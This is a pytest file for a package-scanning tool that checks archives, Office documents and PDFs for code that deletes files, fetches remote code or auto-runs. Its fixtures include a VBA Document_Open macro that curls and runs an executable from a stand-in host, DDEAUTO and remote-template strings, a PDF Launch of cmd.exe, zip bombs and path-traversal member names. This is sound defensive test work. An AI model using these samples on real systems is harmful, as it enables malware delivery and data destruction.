"""Archives, office documents and PDF files inside a package are opened to a bounded depth."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import time
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conjunct.reach.containers import DEEPEST, MOST_MEMBERS, Allowance, Unreadable, container_kind, members
from conjunct.reach.documents import macro_text

from .conftest import Reach, only, shown

DELETES = "import os\nos.remove('/etc/x')\n"


def zipped(files: dict[str, str | bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def tarred(files: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content.encode()))
    return packed.getvalue()


def vba(text: str) -> bytes:
    """A module compressed as MS-OVBA says, every byte as a literal."""
    raw = text.encode("latin-1")
    out = bytearray(b"\x01")
    for start in range(0, len(raw), 2048):
        chunk = bytearray()
        for at in range(start, min(start + 2048, len(raw)), 8):
            chunk += b"\0" + raw[at : min(at + 8, start + 2048)]
        out += (len(chunk) + 2 - 3 | 0xB000).to_bytes(2, "little") + chunk
    return bytes(out)


MODULE = (
    'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n'
    '  Shell "cmd /c curl https://a.example.net/p.exe -o p.exe & p.exe"\r\nEnd Sub\r\n'
)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("lib.zip", zipped({"pkg/run.py": DELETES})),
        ("lib-1.0-py3-none-any.whl", zipped({"pkg/__init__.py": DELETES})),
        ("data.bin", zipped({"run.py": DELETES})),
        ("tool.pyz", b"#!/usr/bin/env python3\n" + zipped({"__main__.py": DELETES})),
        ("all.tar", tarred({"run.py": DELETES})),
        ("all.tar.gz", gzip.compress(tarred({"run.sh": "rm /etc/x\n"}))),
        ("outer.zip", zipped({"inner.zip": zipped({"run.js": "require('fs').unlinkSync('/etc/x')"})})),
        ("books.zip", zipped({"a.ipynb": json.dumps(
            {"cells": [{"cell_type": "code", "source": DELETES}]})})),
    ],
)  # fmt: skip
def test_code_in_an_archive_is_reach_with_its_place_in_it(reach: Reach, path: str, data: bytes) -> None:
    (action,) = only(reach({path: data}), "delete")
    assert action.resource == "/etc/x"
    assert action.file.startswith(f"{path}!/")


@pytest.mark.parametrize(
    ("path", "data", "what"),
    [
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "archive:7z"),
        ("a.zip", b"PK\x03\x04" + b"\xff" * 60, "unreadable:zip"),
        ("a.gz", b"\x1f\x8b" + b"\xff" * 60, "unreadable:gzip"),
        ("a.zip", zipped({"run.py": DELETES})[:60], "unreadable:zip"),
    ],
)
def test_an_archive_that_cannot_be_read_is_opaque(reach: Reach, path: str, data: bytes, what: str) -> None:
    assert ("opaque", what) in shown(reach({path: data}))


def test_an_encrypted_member_is_opaque_and_hides_no_other(reach: Reach) -> None:
    packed = bytearray(zipped({"a.py": "x = 1\n", "b.py": DELETES}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        packed[packed.index(mark) + at] |= 1
    found = reach({"a.zip": bytes(packed)})
    assert ("opaque", "encrypted:zip") in shown(found)
    assert only(found, "delete")


def test_depth_members_and_size_are_bounded(reach: Reach) -> None:
    nested = zipped({"run.py": DELETES})
    for _ in range(DEEPEST):
        nested = zipped({"inner.zip": nested})
    assert ("opaque", "oversized:zip") in shown(reach({"a.zip": nested}))
    many = zipped({f"{number}.txt": "" for number in range(MOST_MEMBERS + 1)})
    assert ("opaque", "oversized:archive") in shown(reach({"b.zip": many}))
    bombs = zipped({f"{number}.py": b"\0" * (8 << 20) for number in range(12)})
    gone = gzip.compress(b"\0" * (64 << 20))
    started = time.process_time()
    assert ("opaque", "oversized:archive") in shown(reach({"c.gz": gone, "d.zip": bombs}))
    assert time.process_time() - started < 10


def test_a_member_name_cannot_pass_for_a_file_of_the_package(reach: Reach) -> None:
    packed = zipped({"../../scripts/run.py": DELETES, "a\x1b[2J.py": DELETES})
    files = {action.file for action in only(reach({"a.zip": packed}), "delete")}
    assert files == {"a.zip!/scripts/run.py", "a.zip!/a\\x1b[2J.py"}


def test_plain_data_in_archives_is_not_reach(reach: Reach) -> None:
    texts = {"a.csv": "1,2\n", "README.md": "rm /etc/x", "word/document.xml": "<w:t>DDEAUTO cmd</w:t>"}
    assert not reach({"a.zip": zipped(texts), "b.docx": zipped(texts)}).actions  # type: ignore[arg-type]


# ---- documents


def test_a_macro_that_runs_by_itself_and_fetches_is_remote_code(reach: Reach) -> None:
    found = reach({"form.docm": zipped({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + vba(MODULE)})})
    assert ("opaque", "macro:vba") in shown(found)
    assert ("opaque", "macro:autorun Document_Open") in shown(found)
    assert ("remote_code", "https://a.example.net/p.exe") in shown(found)


def test_a_macro_that_only_computes_is_opaque_and_no_more(reach: Reach) -> None:
    quiet = 'Attribute VB_Name = "M"\r\nFunction Twice(x)\r\n  Twice = 2 * x\r\nEnd Function\r\n'
    found = reach({"form.docm": zipped({"word/vbaProject.bin": vba(quiet)})})
    assert shown(found) == {("opaque", "macro:vba")}


def test_macros_are_decompressed_with_their_copies() -> None:
    # Sixteen literals, then a copy of 8 bytes from 16 bytes before: 4 bits of offset, 12 of length.
    packed = b"\x00Attribut\x00e VB_Nam\x01" + (15 << 12 | 8 - 3).to_bytes(2, "little")
    module = b"\x01" + (len(packed) + 2 - 3 | 0xB000).to_bytes(2, "little") + packed
    assert macro_text(b"\xd0\xcf" + module) == "Attribute VB_NamAttribut"
    longest = macro_text(module[:-2] + b"\xff\xff")
    assert len(longest) == 16 + 4098


@pytest.mark.parametrize(
    ("member", "content", "expected"),
    [
        ("word/_rels/settings.xml.rels",
         '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://a.example.net/t.dotm" '
         'TargetMode="External"/>', ("remote_code", "https://a.example.net/t.dotm")),
        ("word/document.xml", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>",
         ("opaque", "macro:dde")),
        ("Basic/Standard/Module1.xml", "<?xml version='1.0'?>Sub Main\nShell(\"x\")\nEnd Sub",
         ("exec", "*")),
        ("Scripts/python/m.py", DELETES, ("delete", "/etc/x")),
        ("word/embeddings/oleObject1.bin", "x", ("opaque", "binary:embedded-object")),
    ],
)  # fmt: skip
def test_documents_reach_what_they_load_and_start(
    reach: Reach, member: str, content: str, expected: tuple[str, str]
) -> None:
    assert expected in shown(reach({"a.docx": zipped({member: content})}))


def test_a_link_in_a_document_is_not_reach(reach: Reach) -> None:
    link = '<Relationship Type="http://x/hyperlink" Target="https://a.example.net/" TargetMode="External"/>'
    assert not reach({"a.docx": zipped({"word/_rels/document.xml.rels": link})}).actions


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF\n"


def test_scripts_and_programs_of_a_pdf_are_opaque(reach: Reach) -> None:
    script = b"1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"
    spelled = b"1 0 obj << /S /#4aavaScript >> endobj"
    packed = zlib.compress(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")
    inside = b"2 0 obj << /Filter /FlateDecode >> stream\n" + packed + b"\nendstream"
    assert ("opaque", "document:pdf JavaScript") in shown(reach({"a.pdf": pdf(script)}))
    assert ("opaque", "document:pdf JavaScript") in shown(reach({"a.pdf": pdf(spelled)}))
    assert ("opaque", "document:pdf Launch") in shown(reach({"a.pdf": pdf(inside)}))


def test_a_pdf_with_pages_and_links_is_not_reach(reach: Reach) -> None:
    text = zlib.compress(b"BT (the word /JavaScript on a page) Tj ET")
    page = b"1 0 obj << /Type /Page >> stream\n" + text + b"\nendstream"
    link = b"2 0 obj << /S /URI /URI (https://a.example.net/) >> endobj"
    assert not reach({"a.pdf": pdf(page, link)}).actions


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(
        [b"PK\x03\x04", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0", b"%PDF-", b"7z\xbc\xaf\x27\x1c"]
    ),
    st.binary(max_size=600),
)
def test_any_bytes_are_members_or_one_reason(head: bytes, rest: bytes) -> None:
    kind = container_kind(head)
    assert kind is not None
    try:
        for name, content in members(kind, head + rest, Allowance(), 1000):
            assert len(content) <= 1000 and isinstance(name, str)
    except Unreadable as reason:
        assert ":" in str(reason)
